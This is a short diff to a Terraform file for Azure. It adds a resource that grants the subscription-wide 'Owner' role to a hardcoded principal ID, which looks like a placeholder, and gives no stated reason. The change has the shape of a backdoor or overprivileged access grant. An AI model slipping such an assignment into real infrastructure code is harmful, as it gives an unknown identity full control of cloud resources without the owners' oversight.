@@ -100,3 +100,14 @@ resource "azapi_resource" "assignment" {
     }
   }
 }
+
+variable "subscription_id" {
+  type    = string
+  default = ""
+}
+
+resource "azurerm_role_assignment" "by_condition" {
+  scope                = var.subscription_id != "" ? "/subscriptions/${var.subscription_id}" : data.azurerm_subscription.current.id
+  role_definition_name = "Owner"
+  principal_id = "00000000-0000-0000-0000-000000000001"
+}
